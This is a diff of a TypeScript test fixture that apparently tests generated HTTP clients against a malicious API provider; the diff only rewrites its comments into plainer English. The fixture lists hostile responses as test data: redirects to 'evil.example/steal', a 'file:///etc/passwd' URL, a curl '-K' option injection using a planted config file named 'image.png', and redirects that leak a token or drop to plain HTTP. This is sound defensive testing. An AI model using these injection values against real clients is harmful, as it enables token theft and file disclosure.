@@ -2,46 +2,46 @@ import type { Language } from '@model-snippets/core'
 import type { InputFile } from '../run/sandbox.ts'
 import { type Answer, bytesAnswer, jsonAnswer } from './answer.ts'
 
-/** What a malicious provider does in one run: all else that it answers is as it should be. */
+/** What a malicious provider does in one run. Everything else in its responses is correct. */
 export type MaliciousAnswer = {
   readonly name: string
-  /** The language whose examples alone meet it; those of all where none is named. */
+  /** The language whose examples it affects; all by default. */
   readonly language?: Language
 } & (
   | {
-      /** `ticket`: addresses and ids of the job in the first answer. `address`: that of the finished file. */
+      /** `ticket`: URLs and ids of the job in the first response. `address`: the URL of the finished file. */
       readonly at: 'ticket' | 'address'
-      /** What stands in the place of the honest text. */
+      /** Returns the text that replaces the honest one. */
       readonly says: (honest: string) => string
-      /** What the reader's folder holds from runs before. */
+      /** Files from earlier runs in the user's folder. */
       readonly files?: readonly InputFile[]
       readonly harmless?: boolean
     }
   | {
-      /** The first request, the questions how far the job is, or the download. */
+      /** The first request, the status requests, or the download. */
       readonly at: 'submit' | 'status' | 'file'
       readonly answers: (url: URL) => Answer
-      /** Set where the result is there all the same, and has to be shown. */
+      /** Set if the result is still valid and must be shown. */
       readonly harmless?: boolean
     }
 )
 
-/** Where a client is led that takes an address, or part of one, as it comes. Nobody answers there. */
+/** A host that clients reach if they use a URL, or part of one, without checking it. Nothing responds there. */
 export const EVIL = 'evil.example'
 
-/** Another host of the provider's, which answers without being told who asks. A token must never target it. */
+/** Another host of the provider's that responds without authentication. The token must never be sent there. */
 export const ELSEWHERE = 'elsewhere.example'
 
-/** Settings of curl, in a file that the run before has saved. */
+/** Settings for curl, in a file that an earlier run saved. */
 const SAVED_CONFIG: InputFile = {
   name: 'image.png',
   bytes: Buffer.from(`url = "https://${EVIL}/steal"\noutput = "pwned"\n`),
 }
 
-/** More than examples fetch, as far as the client can be told so. */
+/** A larger file than examples download, if the client supports a limit. */
 const HUGE = 2 ** 31
 
-/** How long an answer is that is broken off. */
+/** The full length of a response that breaks off. */
 const BROKEN = Buffer.alloc(1000)
 
 const says = (
@@ -49,7 +49,7 @@ const says = (
   texts: Readonly<Record<string, (honest: string) => string>>,
 ): MaliciousAnswer[] => Object.entries(texts).map(([name, text]) => ({ at, name, says: text }))
 
-/** `307` has a client repeat its request as it was, body included. */
+/** With `307`, a client repeats its request unchanged, including the body. */
 const movedTo =
   (location: (url: URL) => string) =>
   (url: URL): Answer => ({
@@ -59,7 +59,7 @@ const movedTo =
 
 const inTheClear = (url: URL): string => url.href.replace('https:', 'http:')
 
-/** Texts that lead elsewhere whatever they are put behind, or are more than an address. */
+/** Texts that lead to another host after any prefix, or that contain more than a URL. */
 const LEADING_ELSEWHERE: Readonly<Record<string, (honest: string) => string>> = {
   file: () => 'file:///etc/passwd',
   ftp: () => `ftp://${EVIL}/steal`,
@@ -67,7 +67,7 @@ const LEADING_ELSEWHERE: Readonly<Record<string, (honest: string) => string>> = 
   'no-scheme': () => `//${EVIL}/steal`,
 }
 
-/** What a provider can do to those who follow its answers. */
+/** What a provider can do to clients that follow its responses. */
 export const MALICIOUS_ANSWERS: readonly MaliciousAnswer[] = [
   ...says('ticket', {
     ...LEADING_ELSEWHERE,
@@ -84,7 +84,7 @@ export const MALICIOUS_ANSWERS: readonly MaliciousAnswer[] = [
   }),
   ...says('address', { ...LEADING_ELSEWHERE, 'in-the-clear': (honest) => inTheClear(new URL(honest)) }),
   { at: 'address', name: 'option', says: () => `-K${SAVED_CONFIG.name}`, files: [SAVED_CONFIG] },
-  // One address, whatever it is to curl; to others it is none.
+  // It's one URL, although curl could expand it; for other clients, it isn't a URL.
   { at: 'address', name: 'many', says: (honest) => honest.replace('output', '[1-3]'), harmless: true, language: 'sh' },
   { at: 'submit', name: 'moved-elsewhere', answers: movedTo(() => `https://${ELSEWHERE}/steal`) },
   { at: 'submit', name: 'moved-into-the-clear', answers: movedTo(inTheClear) },
@@ -112,17 +112,17 @@ export const MALICIOUS_ANSWERS: readonly MaliciousAnswer[] = [
   },
 ]
 
-/** Its name, unique among all: where it is, and what. */
+/** Returns its unique name, made of place and kind. */
 export const nameOfMaliciousAnswer = ({ at, name }: MaliciousAnswer): string => `${at}-${name}`
 
-/** @throws Error when there is no malicious answer of that name */
+/** @throws Error if no malicious answer has that name */
 export function maliciousAnswerNamed(name: string): MaliciousAnswer {
   const malicious = MALICIOUS_ANSWERS.find((each) => nameOfMaliciousAnswer(each) === name)
   if (malicious === undefined) throw new Error(`No malicious answer is called ${name}`)
   return malicious
 }
 
-/** An answer to a first request with other texts where it names the job. */
+/** Changes the texts that refer to the job in the response to a first request. */
 export function withMaliciousTexts(
   answer: Answer,
   isOfTheJob: (text: string) => boolean,
